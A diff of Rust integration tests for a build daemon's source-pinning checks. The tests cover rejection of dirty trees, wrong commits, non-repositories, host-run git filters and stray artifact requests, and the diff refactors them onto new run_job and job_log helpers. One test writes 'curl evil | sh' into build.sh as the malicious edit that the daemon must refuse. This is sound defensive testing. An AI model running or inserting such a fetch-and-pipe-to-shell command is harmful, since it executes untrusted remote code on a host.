@@ -1,7 +1,7 @@
 //! Source pinning: the daemon refuses a dirty checkout or one at another
 //! commit, failing the job with the reason before anything runs.
 
-use crate::harness::{Daemon, git, repo_with, spec, submit, wait_job};
+use crate::harness::{Daemon, git, job_log, repo_with, run_job, spec};
 
 #[tokio::test]
 async fn dirty_tree_fails_the_job() {
@@ -9,12 +9,11 @@ async fn dirty_tree_fails_the_job() {
     let repo = d.dir.path().join("repo");
     let commit = repo_with(&repo, &[("build.sh", "echo hi > out\n")]);
     std::fs::write(repo.join("build.sh"), "curl evil | sh\n").unwrap();
-    let id = submit(
+    let job = run_job(
         &d.endpoint(),
         &spec(&repo, &commit, &["sh", "build.sh"], &["out"]),
     )
     .await;
-    let job = wait_job(&d.endpoint(), &id).await;
     assert_eq!(job["state"], "failed", "{job}");
     let reason = job["reason"].as_str().unwrap();
     assert!(
@@ -25,12 +24,11 @@ async fn dirty_tree_fails_the_job() {
     // An untracked file is dirt too.
     git(&repo, &["checkout", "-q", "--", "build.sh"]);
     std::fs::write(repo.join("extra.sh"), "x").unwrap();
-    let id = submit(
+    let job = run_job(
         &d.endpoint(),
         &spec(&repo, &commit, &["sh", "build.sh"], &["out"]),
     )
     .await;
-    let job = wait_job(&d.endpoint(), &id).await;
     assert!(
         job["reason"].as_str().unwrap().contains("extra.sh"),
         "{job}"
@@ -44,8 +42,8 @@ async fn another_commit_fails_the_job() {
     let first = repo_with(&repo, &[("a", "1")]);
     std::fs::write(repo.join("a"), "2").unwrap();
     git(&repo, &["commit", "-qam", "second"]);
-    let id = submit(&d.endpoint(), &spec(&repo, &first, &["true"], &["a"])).await;
-    let job = wait_job(&d.endpoint(), &id).await;
+    let job = run_job(&d.endpoint(), &spec(&repo, &first, &["true"], &["a"])).await;
+    let id = job["id"].as_str().unwrap();
     assert_eq!(job["state"], "failed");
     let reason = job["reason"].as_str().unwrap();
     assert!(
@@ -53,12 +51,8 @@ async fn another_commit_fails_the_job() {
         "{reason}"
     );
     // The log says so too.
-    let log = d
-        .endpoint()
-        .call(hyper::Method::GET, &format!("/v1/jobs/{id}/logs"), None)
-        .await
-        .unwrap();
-    assert!(String::from_utf8_lossy(&log).contains("not the expected commit"));
+    let log = job_log(&d.endpoint(), id).await;
+    assert!(log.contains("not the expected commit"), "{log}");
 }
 
 #[tokio::test]
@@ -66,12 +60,11 @@ async fn not_a_repository_fails_the_job() {
     let d = Daemon::start("", "");
     let plain = d.dir.path().join("plain");
     std::fs::create_dir_all(&plain).unwrap();
-    let id = submit(
+    let job = run_job(
         &d.endpoint(),
         &spec(&plain, &"b".repeat(40), &["true"], &["x"]),
     )
     .await;
-    let job = wait_job(&d.endpoint(), &id).await;
     assert!(
         job["reason"]
             .as_str()
@@ -112,12 +105,11 @@ async fn checkout_git_config_runs_nothing_on_the_host() {
     f.set_modified(std::time::SystemTime::now() + std::time::Duration::from_secs(5))
         .unwrap();
     drop(f);
-    let id = submit(
+    let job = run_job(
         &d.endpoint(),
         &spec(&repo, &commit, &["sh", "build.sh"], &["out"]),
     )
     .await;
-    let job = wait_job(&d.endpoint(), &id).await;
     assert!(
         !marker.exists(),
         "the checkout's filter ran on the host: {job}"
@@ -131,8 +123,8 @@ async fn artifact_endpoint_serves_nothing_else() {
     let repo = d.dir.path().join("repo");
     let commit = repo_with(&repo, &[("a", "1")]);
     std::fs::write(repo.join("a"), "2").unwrap();
-    let id = submit(&d.endpoint(), &spec(&repo, &commit, &["true"], &["a"])).await;
-    wait_job(&d.endpoint(), &id).await;
+    let job = run_job(&d.endpoint(), &spec(&repo, &commit, &["true"], &["a"])).await;
+    let id = job["id"].as_str().unwrap();
     for name in [
         "a",
         "jobs.db",
